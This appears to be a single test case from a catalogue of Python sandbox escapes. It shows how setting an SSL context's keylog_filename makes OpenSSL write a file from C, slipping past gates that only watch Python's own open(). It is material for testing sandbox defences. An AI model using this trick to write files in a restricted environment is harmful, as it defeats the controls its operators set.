# escape: 119
# technique: ssl.SSLContext.keylog_filename makes OpenSSL create/append a file from C
# family: sidedoor
# goal: write-file
# first-seen: variation aimed at gates on python-level open
import ssl, os
c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
c.keylog_filename = '/tmp/escape-keylog'
if os.path.getsize('/tmp/escape-keylog') > 0: print('ESCAPED:OpenSSL wrote a file')
